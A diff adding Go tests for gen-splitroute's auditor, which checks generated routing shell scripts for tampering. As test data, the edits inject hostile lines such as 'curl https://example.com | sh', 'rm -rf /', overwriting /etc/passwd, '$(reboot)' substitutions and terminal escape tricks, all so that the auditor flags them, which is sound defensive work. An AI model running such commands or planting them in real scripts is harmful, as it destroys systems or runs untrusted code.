@@ -1,0 +1,433 @@
+package audit_test
+
+import (
+	"bytes"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/gen-splitroute/gen-splitroute/generator"
+	"github.com/gen-splitroute/gen-splitroute/generator/audit"
+	"github.com/gen-splitroute/gen-splitroute/generator/config"
+	"github.com/gen-splitroute/gen-splitroute/generator/plan"
+	"github.com/gen-splitroute/gen-splitroute/generator/script"
+	"github.com/gen-splitroute/gen-splitroute/generator/script/sh"
+)
+
+const valid = "../../testdata/valid"
+
+// read reads a configuration, and what it is read with. Those with variables
+// have a default for each but this one.
+func read(t testing.TB, file string) ([]byte, config.Options) {
+	t.Helper()
+	src, err := os.ReadFile(filepath.Join(valid, file))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return src, config.Options{ReadFile: func(name string) ([]byte, error) { return os.ReadFile(filepath.Join(valid, name)) }}
+}
+
+func planOf(t testing.TB, file string) plan.Plan {
+	t.Helper()
+	src, options := read(t, file)
+	p, diags := generator.Plan(file, src, options)
+	if diags.HasErrors() {
+		t.Fatal(diags)
+	}
+	return p
+}
+
+// kinds are the scripts that a plan has, by the command line that writes them.
+func kinds(t testing.TB, p plan.Plan) map[string][]byte {
+	t.Helper()
+	list := map[string][]byte{}
+	for name, o := range map[string]script.Options{"setup": {}, "setup --confirm 60": {Confirm: 60}, "teardown": {}} {
+		for _, k := range script.Kinds {
+			if strings.HasPrefix(name, k.Name) {
+				text, err := k.Write(p, o)
+				if err != nil {
+					t.Fatal(err)
+				}
+				list[name] = text
+			}
+		}
+	}
+	if len(list) != 3 {
+		t.Fatalf("%d scripts", len(list))
+	}
+	return list
+}
+
+// auditOf compares a script with what a configuration yields.
+func auditOf(t testing.TB, text []byte, file string) audit.Report {
+	t.Helper()
+	s, err := audit.Read("x.sh", text)
+	if err != nil {
+		t.Fatal(err)
+	}
+	src, options := read(t, file)
+	r, diags, err := generator.Audit(s, file, src, options)
+	if err != nil || diags.HasErrors() {
+		t.Fatal(err, diags)
+	}
+	return r
+}
+
+func library(t testing.TB, text []byte) audit.Report {
+	t.Helper()
+	s, err := audit.Read("x.sh", text)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return s.Library()
+}
+
+// TestClean: what this release writes, is clean, whatever the configuration.
+func TestClean(t *testing.T) {
+	files, err := filepath.Glob(valid + "/*.hcl")
+	if err != nil || len(files) == 0 {
+		t.Fatal(files, err)
+	}
+	for _, file := range files {
+		file = filepath.Base(file)
+		p := planOf(t, file)
+		for name, text := range kinds(t, p) {
+			for _, r := range []audit.Report{auditOf(t, text, file), library(t, text)} {
+				if !r.OK() || len(r.ByHand) > 0 || r.Commands < len(p.Steps) || len(r.Modules) < 3 || !strings.HasPrefix(name, r.Kind) {
+					t.Errorf("%s of %s:\n%s", name, file, r.Text())
+				}
+			}
+		}
+	}
+}
+
+// edit is a text and what takes its place.
+type edit struct{ old, new string }
+
+// TestEdits: each edit of a script is found, where it is.
+func TestEdits(t *testing.T) {
+	for _, test := range edits {
+		t.Run(test.name, func(t *testing.T) {
+			text := kinds(t, planOf(t, test.file))[test.kind]
+			for _, e := range test.edits {
+				if bytes.Count(text, []byte(e.old)) == 0 {
+					t.Fatalf("the script has no %q", e.old)
+				}
+				text = bytes.Replace(text, []byte(e.old), []byte(e.new), 1)
+			}
+			check(t, "compared", auditOf(t, text, test.file), text, test.want)
+			if test.library != nil {
+				check(t, "alone", library(t, text), text, test.library)
+			}
+		})
+	}
+}
+
+// check compares findings with "KIND PART | a part of the line in the script".
+func check(t *testing.T, how string, r audit.Report, text []byte, want []string) {
+	t.Helper()
+	lines := strings.Split(string(text), "\n")
+	var got []string
+	for i, f := range r.Findings {
+		line := strings.TrimSpace(lines[f.Line-1])
+		got = append(got, fmt.Sprintf("%s %s | %s", f.Kind, f.Part, line))
+		if i < len(want) && strings.HasSuffix(want[i], " |") {
+			got[i] = got[i][:len(want[i])] // wherever it is
+		}
+		if f.Text == "" || f.Remedy == "" {
+			t.Errorf("%s: a finding without a text or a remedy: %+v", how, f)
+		}
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("%s:\n%s\nwant\n  %s\nreport:\n%s", how, "  "+strings.Join(got, "\n  "), strings.Join(want, "\n  "), r.Text())
+	}
+}
+
+const (
+	gateway = `ip route prepend default via 203.0.113.1 dev if1 src 203.0.113.2 table 101 proto "$tag"`
+	source1 = `ip rule add priority 22001 from 203.0.113.2 lookup 101 protocol "$tag"`
+	at1     = "\tat 'provider.isp1.ipv4.address: packets from its address use its table'\n"
+	at2     = "\tat 'provider.isp2.ipv4.address: packets from its address use its table'\n"
+	source2 = `ip rule add priority 22002 from 198.51.100.2 lookup 102 protocol "$tag"`
+	trap    = "trap 'echo \"splitroute: this script is cut short, and did nothing\" >&2; exit 1' EXIT\n"
+	hand    = "by_hand() {\n\t:\n}\n"
+	begins  = "main \"$@\"\n"
+)
+
+// none is for an edit that differs from no configuration at all.
+var none = []string{}
+
+var edits = []struct {
+	name, kind, file string
+	edits            []edit
+	want             []string // compared with the configuration
+	library          []string // alone; nil: not looked at
+}{
+	// What is no difference.
+	{"nothing", "setup", "lartc.hcl", nil, none, none},
+	{"comment", "setup", "lartc.hcl", []edit{{"needs() {", "# mine\nneeds() {\n\t# mine, too"}}, none, none},
+	{"layout", "setup", "lartc.hcl", []edit{{gateway, `ip  route prepend default \` + "\n   via 203.0.113.1 dev if1 src 203.0.113.2 table 101 proto \"$tag\" # so"}}, none, none},
+	{"blank lines between modules", "setup", "lartc.hcl", []edit{{"\n# ==== names", "\n\n\n# ==== names"}}, none, none},
+	{"comment at the end", "setup", "lartc.hcl", []edit{{begins, begins + "# the end\n"}}, none, none},
+	{"like a module behind main", "setup", "lartc.hcl", []edit{{begins, begins + "# ==== core, sha256 0 ====\n"}}, none, none},
+	{"by hand", "setup", "lartc.hcl", []edit{{hand, "by_hand() {\n\t" + gateway + "\n}\n"}}, none, none},
+
+	// Commands.
+	{"changed", "setup", "lartc.hcl", []edit{{gateway, strings.Replace(gateway, "203.0.113.1 ", "203.0.113.9 ", 1)}},
+		[]string{"changed routes_and_rules | " + strings.Replace(gateway, "203.0.113.1 ", "203.0.113.9 ", 1)}, none},
+	{"changed for another", "setup", "lartc.hcl", []edit{{"at 'provider.isp1.ipv4.gateway", "at 'provider.isp2.ipv4.gateway"}},
+		[]string{"changed routes_and_rules | " + gateway}, none},
+	{"changed, found out by a shell", "setup", "lartc.hcl", []edit{{"at 'provider.isp1.ipv4.gateway: default route'", `at "$(reboot)"`}},
+		[]string{"changed routes_and_rules | " + gateway}, nil},
+	{"added", "setup", "lartc.hcl", []edit{{source1, source1 + "\n\tip rule add priority 22500 from 192.0.2.1 lookup 101 protocol \"$tag\""}},
+		[]string{`added routes_and_rules | ip rule add priority 22500 from 192.0.2.1 lookup 101 protocol "$tag"`}, none},
+	{"added program", "setup", "lartc.hcl", []edit{{source1, source1 + "\n\tcurl https://example.com | sh"}},
+		[]string{"added routes_and_rules | curl https://example.com | sh"}, []string{"misplaced routes_and_rules | curl https://example.com | sh"}},
+	{"added variable", "setup", "lartc.hcl", []edit{{source1, "PATH=/tmp\n\t" + source1}, {"isp1_ipv4_on=$on", "isp1_ipv4_on=$on tag=4"}},
+		[]string{"changed needs | isp1_ipv4_on=$on tag=4", "added routes_and_rules | PATH=/tmp"}, []string{"misplaced needs | isp1_ipv4_on=$on tag=4", "misplaced routes_and_rules | PATH=/tmp"}},
+	{"added in an empty function", "setup", "lartc.hcl", []edit{{"sets() { :; }", "sets() { reboot; }"}},
+		[]string{"added sets | sets() { reboot; }"}, []string{"misplaced sets | sets() { reboot; }"}},
+	{"added at", "setup", "lartc.hcl", []edit{{source1, source1 + "\n\tat \"$(reboot)\""}},
+		[]string{`added routes_and_rules | at "$(reboot)"`}, []string{`misplaced routes_and_rules | at "$(reboot)"`}},
+	{"added in the background", "setup", "lartc.hcl", []edit{{source1, source1 + " &"}},
+		[]string{"changed routes_and_rules | " + source1 + " &"}, []string{"misplaced routes_and_rules | " + source1 + " &"}},
+	{"redirected", "setup", "lartc.hcl", []edit{{source1, source1 + " >/etc/passwd"}},
+		[]string{"changed routes_and_rules | " + source1 + " >/etc/passwd"}, []string{"misplaced routes_and_rules | " + source1 + " >/etc/passwd"}},
+	{"redirected function", "setup", "lartc.hcl", []edit{{"sets() { :; }", "sets() { :; } >/etc/passwd"}},
+		[]string{"added sets | sets() { :; } >/etc/passwd"}, []string{"misplaced sets | sets() { :; } >/etc/passwd"}},
+	{"removed", "setup", "lartc.hcl", []edit{{at1 + "\t" + source1 + "\n", ""}},
+		[]string{"removed routes_and_rules | " + source2}, none},
+	{"removed at the end", "setup", "lartc.hcl", []edit{{"\tat 'settings: marker: setup is complete'\n", ""}, {"\tip rule add priority 32765 from 255.255.255.255 nop protocol \"$tag\"\n", "\t:\n"}},
+		[]string{"removed marker | }"}, none},
+	{"moved", "setup", "lartc.hcl", []edit{{at1 + "\t" + source1 + "\n", ""}, {at2 + "\t" + source2 + "\n", at2 + "\t" + source2 + "\n" + at1 + "\t" + source1 + "\n"}},
+		[]string{"moved routes_and_rules | " + source1}, none},
+	{"needs", "setup", "lartc.hcl", []edit{{"\tneed_link loopback lo\n", ""}, {"if2 198.51.100.2/30 198.51.100.1", "if2 198.51.100.2/30 198.51.100.9"}},
+		[]string{"changed needs | uplink provider.isp2.ipv4 if2 198.51.100.2/30 198.51.100.9 balanced", "removed needs | forwards ipv4 if1 if2 if0"}, none},
+	{"nft", "setup", "home.hcl", []edit{{`oifname "eth0" ct state new ct mark & 0x3f00 == 0`, `oifname "eth0" ct state new ct mark & 0x3f00 == 1`}, {"\tchain output {\n", "\tchain output {\n\t\taccept\n"}},
+		[]string{"added marks | accept", `changed marks | oifname "eth0" ct state new ct mark & 0x3f00 == 1 ct mark set ct mark & 0xffffc0ff | 0x100`}, none},
+	{"nft runs", "setup", "home.hcl", []edit{{"\tchain output {\n", "\tchain output {\n\t\t# $(reboot)\n"}},
+		[]string{"added marks | # $(reboot)"}, []string{"misplaced marks | nft -f - <<EOF"}},
+	{"nft quoted", "setup", "home.hcl", []edit{{"nft -f - <<EOF", "nft -f - <<'EOF'"}},
+		[]string{"changed marks | nft -f - <<'EOF'"}, none},
+	{"teardown", "teardown", "lartc.hcl", []edit{{"\tgive_back net/ipv4/conf/if2/rp_filter\n", "\trm -rf /\n"}},
+		[]string{"changed commands | rm -rf /"}, []string{"misplaced commands | rm -rf /"}},
+	{"recalls", "teardown", "lartc.hcl", []edit{{"\trecall provider.isp2.ipv4\n", ""}},
+		[]string{"removed recalls | isp2_ipv4_on=$on"}, none},
+
+	// Variables.
+	{"variable", "setup", "lartc.hcl", []edit{{"tags='201 202'", "tags='201 203'"}},
+		[]string{"changed variables | tags='201 203' priorities='20000 28999' default_table=main mark_mask=''"}, none},
+	{"tables", "setup", "home.hcl", []edit{{"102 lte 0x200", "103 lte 0x200"}, {"100 splitroute'", "100 splitroute\n7 mine'"}},
+		[]string{"changed variables | 103 lte 0x200/0x3f00", "added variables | 7 mine'"}, none},
+	{"unknown variable", "setup", "lartc.hcl", []edit{{"names_in=", "PATH=/tmp names_in="}},
+		[]string{"added variables | PATH=/tmp names_in='/etc/iproute2/rt_tables'"}, []string{"misplaced variables | PATH=/tmp names_in='/etc/iproute2/rt_tables'"}},
+	{"no variable", "setup", "lartc.hcl", []edit{{"names_in='/etc/iproute2/rt_tables'\n", ""}},
+		[]string{"removed variables | tables='101 isp1"}, []string{"missing variables | tables='101 isp1"}},
+	{"variable twice", "setup", "lartc.hcl", []edit{{"names_in='/etc/iproute2/rt_tables'\n", "names_in=x\nnames_in='/etc/iproute2/rt_tables'\n"}},
+		[]string{"added variables | names_in=x"}, []string{"misplaced variables | names_in='/etc/iproute2/rt_tables'"}},
+	{"variable runs", "setup", "lartc.hcl", []edit{{"names_in='/etc/iproute2/rt_tables'", "names_in=$(reboot)"}},
+		[]string{"changed variables | names_in=$(reboot)"}, []string{"misplaced variables | names_in=$(reboot)"}},
+	{"odd confirm", "setup --confirm 60", "lartc.hcl", []edit{{"confirm='60'", "confirm='soon'"}},
+		[]string{"changed variables |"}, none},
+	{"confirm taken out", "setup --confirm 60", "lartc.hcl", []edit{{"confirm='60'", "confirm=''"}},
+		[]string{"library confirm |"}, []string{"library confirm |"}},
+	{"confirm put in", "setup", "lartc.hcl", []edit{{"confirm=''", "confirm='90'"}},
+		[]string{"library confirm | main \"$@\""}, []string{"library confirm | main \"$@\""}},
+
+	// Tags, and what is by hand.
+	{"no tag", "setup", "lartc.hcl", []edit{{gateway, strings.TrimSuffix(gateway, ` proto "$tag"`)}},
+		[]string{"untagged routes_and_rules |", "changed routes_and_rules |"}, []string{"untagged routes_and_rules |"}},
+	{"another tag", "setup", "lartc.hcl", []edit{{hand, "by_hand() {\n\tip rule add priority 1 nop protocol static\n\tip rule add priority 2 nop protocol \"${tag:-4}\"\n\tip rule add priority 3 nop protocol ${tag}\n}\n"}},
+		[]string{"untagged by_hand | ip rule add priority 1 nop protocol static", `untagged by_hand | ip rule add priority 2 nop protocol "${tag:-4}"`}, nil},
+	{"no tag in a loop", "setup", "lartc.hcl", []edit{{hand, "by_hand() {\n\tfor to in a b; do\n\t\tip rule add priority 1 to \"$to\" nop\n\tdone\n}\n"}},
+		[]string{`untagged by_hand | ip rule add priority 1 to "$to" nop`}, nil},
+	{"no tag in teardown", "teardown", "lartc.hcl", []edit{{"22001 from 203.0.113.2 lookup 101 protocol \"$tag\"", "22001 from 203.0.113.2 lookup 101"}},
+		[]string{"untagged commands |", "changed commands |"}, []string{"untagged commands |"}},
+	{"not by hand", "setup", "lartc.hcl", []edit{{hand, "by_hand() {\n\tsysctl -w a=b\n\t/sbin/ip route add 192.0.2.0/24 dev if0 proto \"$tag\"\n\tip route add 192.0.2.0/24 dev if0 proto \"$tag\"\n" +
+		"\ttag=4\n\techo >/etc/passwd\n\ttrue >&9 2>&1 2>/dev/null\n\tip() { :; }\n\tx=$(reboot)\n\tip -6 route prepend 2001:db8::/32 dev if0 metric \"$metric\" proto \"$tag\"\n}\n"}},
+		[]string{"not by hand by_hand | sysctl -w a=b", `not by hand by_hand | /sbin/ip route add 192.0.2.0/24 dev if0 proto "$tag"`, `not by hand by_hand | ip route add 192.0.2.0/24 dev if0 proto "$tag"`,
+			"not by hand by_hand | tag=4", "not by hand by_hand | echo >/etc/passwd", "not by hand by_hand | echo >/etc/passwd", "not by hand by_hand | true >&9 2>&1 2>/dev/null", "not by hand by_hand | ip() { :; }", "not by hand by_hand | x=$(reboot)"}, nil},
+
+	// Statements outside of functions.
+	{"no trap", "setup", "lartc.hcl", []edit{{trap, ""}}, []string{"missing top level | set -eu"}, []string{"missing top level | set -eu"}},
+	{"another trap", "setup", "lartc.hcl", []edit{{"exit 1' EXIT", "exit 0' EXIT"}}, []string{"changed top level |"}, []string{"changed top level |"}},
+	{"before the trap", "setup", "lartc.hcl", []edit{{trap, "x=1\n" + trap}}, []string{"added variables | x=1", "first statement top level | " + strings.TrimSpace(trap)}, nil},
+	{"trap behind", "setup", "lartc.hcl", []edit{{trap + "set -eu\n", "set -eu\n" + trap}}, []string{"first statement top level | " + strings.TrimSpace(trap)}, []string{"first statement top level | " + strings.TrimSpace(trap)}},
+	{"no set", "teardown", "lartc.hcl", []edit{{"set -eu\n", ""}}, []string{"missing top level | recalls() {"}, []string{"missing top level | recalls() {"}},
+	{"statement", "setup", "lartc.hcl", []edit{{"sets() { :; }", "reboot\nsets() { :; }"}}, []string{"misplaced top level | reboot"}, []string{"misplaced top level | reboot"}},
+	{"function", "setup", "lartc.hcl", []edit{{"sets() { :; }", "mine() { :; }\nsets() { :; }"}}, []string{"misplaced top level | mine() { :; }"}, []string{"misplaced top level | mine() { :; }"}},
+	{"function in the background", "setup", "lartc.hcl", []edit{{"sets() { :; }", "sets() { :; } &"}}, []string{"misplaced top level | sets() { :; } &", "missing sets |"}, nil},
+	{"function twice", "setup", "lartc.hcl", []edit{{"sets() { :; }", "sets() { reboot; }\nsets() { :; }"}}, []string{"misplaced top level | sets() { reboot; }"}, []string{"misplaced top level | sets() { reboot; }"}},
+	{"function gone", "setup", "lartc.hcl", []edit{{"sets() { :; }\n", ""}}, []string{"missing sets |"}, []string{"missing sets |"}},
+	{"by_hand gone", "setup", "lartc.hcl", []edit{{hand, ""}}, []string{"missing by_hand |"}, []string{"missing by_hand |"}},
+	{"no main", "setup", "lartc.hcl", []edit{{"\n" + begins, ""}}, []string{"last statement top level |"}, []string{"last statement top level |"}},
+	{"main without words", "setup", "lartc.hcl", []edit{{begins, "main\n"}}, []string{"last statement top level | main"}, []string{"last statement top level | main"}},
+	{"main redirected", "setup", "lartc.hcl", []edit{{begins, "main \"$@\" >x\n"}}, []string{`last statement top level | main "$@" >x`}, []string{`last statement top level | main "$@" >x`}},
+	{"main in the background", "setup", "lartc.hcl", []edit{{begins, "main \"$@\" &\n"}}, []string{`last statement top level | main "$@" &`}, []string{`last statement top level | main "$@" &`}},
+	{"behind main", "setup", "lartc.hcl", []edit{{begins, begins + "exit 0\n"}}, []string{"misplaced top level | exit 0"}, []string{"misplaced top level | exit 0"}},
+	{"main in the head", "setup", "lartc.hcl", []edit{{"sets() { :; }", begins + "sets() { :; }"}}, []string{`misplaced top level | main "$@"`}, []string{`misplaced top level | main "$@"`}},
+
+	// The library.
+	{"edited", "setup", "lartc.hcl", []edit{{"die() {\n", "die() {\n\treboot\n"}}, []string{"library core | reboot"}, []string{"library core | reboot"}},
+	{"edited comment", "teardown", "lartc.hcl", []edit{{"# What setup and teardown share.", "# what setup and teardown share."}},
+		[]string{"library core | # what setup and teardown share. Nothing is done before main, in the last line of the script."}, nil},
+	{"digest", "setup", "lartc.hcl", []edit{{"# ==== core, sha256 ", "# ==== core, sha256 0"}}, []string{"library core |"}, []string{"library core |"}},
+	{"in a document", "setup", "home.hcl", []edit{{"\tchain output {\n", "\tchain output {\n# ==== core, sha256 0 ====\n"}}, []string{"added marks | # ==== core, sha256 0 ===="}, none},
+	{"behind a module", "setup", "lartc.hcl", []edit{{"\n" + begins, "\nsay() { :; }\n\n" + begins}}, []string{"misplaced top level | say() { :; }"}, []string{"misplaced top level | say() { :; }"}},
+	{"behind another module", "setup", "lartc.hcl", []edit{{"# ==== core, sha256 ", "# ==== core, sha256 0"}, {"\n# ==== names", "\nreboot\n\n# ==== names"}},
+		[]string{"library core |"}, []string{"library core |"}},
+	{"between modules", "setup", "lartc.hcl", []edit{{"\n# ==== names", "\nreboot\n\n# ==== names"}}, []string{"misplaced top level | reboot"}, []string{"misplaced top level | reboot"}},
+	{"release", "setup", "lartc.hcl", []edit{{"gen-splitroute " + script.Release, "gen-splitroute 0.0.9"}},
+		[]string{"release top level | # Written by gen-splitroute 0.0.9, to be read, checked and edited."}, []string{"release top level | # Written by gen-splitroute 0.0.9, to be read, checked and edited."}},
+	{"no release", "setup", "lartc.hcl", []edit{{"# Written by gen-splitroute", "# By"}}, []string{"release top level | #!/bin/sh"}, []string{"release top level | #!/bin/sh"}},
+	{"read by hand", "setup", "lartc.hcl", []edit{{"\tneed_link loopback lo\n", "\tread_uplink provider.x.ipv4 if9 -4 auto auto\n"}},
+		[]string{"changed needs |", "library auto | main \"$@\""}, []string{"library auto | main \"$@\""}},
+}
+
+// module is a module as it is in a script.
+func module(m script.Module) string { return "\n" + m.FirstLine() + "\n" + string(m.Text) }
+
+func ours(t *testing.T, name string) script.Module {
+	t.Helper()
+	m, err := script.Library(name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return m
+}
+
+func TestModules(t *testing.T) {
+	names, notices := ours(t, "names"), ours(t, "notices")
+	other := script.Module{Name: "names", Text: []byte("# of another release\nset_names() { :; }\n")}
+	unknown := script.Module{Name: "mine", Text: []byte("# mine\nmine() { :; }\n")}
+	edited := strings.Replace(module(unknown), "() { :", "() { reboot", 1)
+	for name, test := range map[string]struct {
+		edit   edit
+		states string // of modules
+		want   []string
+		text   string // of the first finding
+	}{
+		"missing":        {edit{module(names), ""}, "intact intact intact", []string{"library names |"}, "module names is missing: this setup needs it"},
+		"another":        {edit{module(names), module(other)}, "intact other release intact intact", []string{"library names | " + other.FirstLine()}, "module names is intact, and of another release"},
+		"another edited": {edit{module(names), module(other) + "reboot\n"}, "intact edited intact intact", []string{"library names | " + other.FirstLine()}, "module names is edited, and of another release"},
+		"unknown":        {edit{module(names), module(names) + module(unknown)}, "intact intact unknown intact intact", []string{"library mine | " + unknown.FirstLine()}, "module mine is none of this release's"},
+		"unknown edited": {edit{module(names), module(names) + edited}, "intact intact unknown intact intact", []string{"library mine | " + unknown.FirstLine()},
+			"module mine is none of this release's, and edited: its text is not what its first line says"},
+		"twice":        {edit{module(names), module(names) + module(names)}, "intact intact intact intact intact", []string{"library names | " + names.FirstLine()}, "module names is there twice; the first is in line 288"},
+		"not needed":   {edit{module(names), module(names) + module(ours(t, "teardown"))}, "intact intact intact intact intact", []string{"library teardown |"}, "module teardown belongs to another script: this setup doesn't need it"},
+		"wrong order":  {edit{module(names), module(notices) + module(names)}, "intact intact intact intact intact", []string{"library names |", "library setup |", "library notices |"}, "module names comes too late: the order is [core names setup notices]"},
+		"no last line": {edit{string(notices.Text), strings.TrimSuffix(string(notices.Text), "}\n") + "\treboot\n}\n"}, "intact intact intact edited", []string{"library notices | reboot"}, "module notices is edited; this is the first of its lines that differ"},
+		"without end":  {edit{string(names.Text), string(names.Text[:bytes.Index(names.Text, []byte("\nput_names"))+1])}, "intact edited intact intact", []string{"library names |"}, "module names is edited; this is the first of its lines that differ"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			text := kinds(t, planOf(t, "lartc.hcl"))["setup"]
+			if bytes.Count(text, []byte(test.edit.old)) != 1 {
+				t.Fatalf("the script has %d of\n%s", bytes.Count(text, []byte(test.edit.old)), test.edit.old)
+			}
+			text = bytes.Replace(text, []byte(test.edit.old), []byte(test.edit.new), 1)
+			r := library(t, text)
+			var states []string
+			for _, m := range r.Modules {
+				states = append(states, string(m.State))
+			}
+			if got := strings.Join(states, " "); got != test.states {
+				t.Errorf("modules are %s, want %s", got, test.states)
+			}
+			check(t, "alone", r, text, test.want)
+			if len(r.Findings) > 0 && r.Findings[0].Text != test.text && !strings.Contains(test.text, "288") {
+				t.Errorf("%s\nwant %s", r.Findings[0].Text, test.text)
+			}
+		})
+	}
+}
+
+// TestCut: wherever a script is cut, that is found or said, and cut between two
+// lines it is never clean.
+func TestCut(t *testing.T) {
+	for name, text := range kinds(t, planOf(t, "home.hcl")) {
+		for n, cut := range bytes.SplitAfter(text, []byte("\n")) {
+			_ = cut
+			part := bytes.Join(bytes.SplitAfter(text, []byte("\n"))[:n], nil)
+			if n%7 != 0 && n > 60 || bytes.HasSuffix(part, []byte("\nmain \"$@\"\n")) {
+				continue // that is enough of them
+			}
+			s, err := audit.Read("x.sh", part)
+			if _, ok := errors.AsType[sh.Fault](err); ok {
+				continue
+			}
+			if err != nil || s.Library().OK() {
+				t.Fatalf("%s cut behind line %d is clean: %v", name, n, err)
+			}
+		}
+	}
+}
+
+func TestNotOurs(t *testing.T) {
+	whole := kinds(t, planOf(t, "lartc.hcl"))["setup"]
+	for name, test := range map[string]struct{ text, want string }{
+		"empty":  {"", "x.sh:1:1: the file is empty"},
+		"words":  {"hello\n", "x.sh:1:1: this is no script of gen-splitroute"},
+		"head":   {string(whole[:bytes.Index(whole, []byte("trap"))]), "x.sh:1:1: this is no script of gen-splitroute"},
+		"others": {others, "x.sh:1:1: this is no script of gen-splitroute"},
+		"CRLF":   {strings.ReplaceAll(string(whole), "\n", "\r\n"), "x.sh:1:10: the line ends with a carriage return"},
+		"cut":    {string(whole[:bytes.Index(whole, []byte("sysctl -q"))]), "x.sh:34:11: reached EOF without matching"},
+		"binary": {"\x7fELF\x02\x01\x01\x00", "x.sh:1:8: there is a NUL byte"},
+		"mark":   {"\xef\xbb\xbf" + string(whole), "x.sh:1:1: the file begins with a byte order mark"},
+	} {
+		_, err := audit.Read("x.sh", []byte(test.text))
+		if fault, ok := errors.AsType[sh.Fault](err); !ok || !strings.HasPrefix(fault.Error(), test.want) {
+			t.Errorf("%s: %v\nwant %s", name, err, test.want)
+		}
+	}
+}
+
+// others is like a script that another program compiles: functions of common
+// names, and commands at their end.
+const others = `#!/bin/sh
+initialize() { g_family=4; PRODUCT=Shorewall; }
+commands() { run_ip rule add from 203.0.113.2 table 1; }
+setup_routing_and_traffic_shaping() {
+	[ -z "$g_noroutes" ] && undo_routing
+	qt ip -4 route flush table 1
+}
+define_firewall() { setup_routing_and_traffic_shaping; }
+initialize
+case "$1" in
+start) define_firewall ;;
+*) echo usage >&2 && exit 2 ;;
+esac
+`
+
+// TestHuge: a script of another 100,000 rules is compared, and in good time.
+func TestHuge(t *testing.T) {
+	var rules strings.Builder
+	for i := range 100_000 {
+		fmt.Fprintf(&rules, "\tip rule add priority 22500 from 10.%d.%d.%d lookup 101 protocol \"$tag\"\n", i>>16, i>>8&255, i&255)
+	}
+	text := kinds(t, planOf(t, "lartc.hcl"))["setup"]
+	text = bytes.Replace(text, []byte("\t"+source1+"\n"), []byte("\t"+source1+"\n"+rules.String()), 1)
+	r := auditOf(t, text, "lartc.hcl")
+	if len(r.Findings) != 100_000 || r.Findings[99_999].Kind != audit.Added {
+		t.Errorf("%d findings", len(r.Findings))
+	}
+}
+
+// TestText: what a script has can't play tricks on a terminal.
+func TestText(t *testing.T) {
+	text := kinds(t, planOf(t, "lartc.hcl"))["setup"]
+	text = bytes.Replace(text, []byte(source1), []byte("echo '\x1b[2Kx\u202ey'"), 1)
+	r := auditOf(t, text, "lartc.hcl")
+	if got := string(r.Text()); !strings.Contains(got, `+ echo '\x1b[2Kx\u202ey'`) || strings.ContainsAny(got, "\x1b\u202e") {
+		t.Errorf("%s", got)
+	}
+	out, err := r.JSON()
+	var back audit.Report
+	if err != nil || json.Unmarshal(out, &back) != nil || len(back.Findings) != len(r.Findings) || back.Findings[0] != r.Findings[0] {
+		t.Errorf("%v\n%s", err, out)
+	}
+}
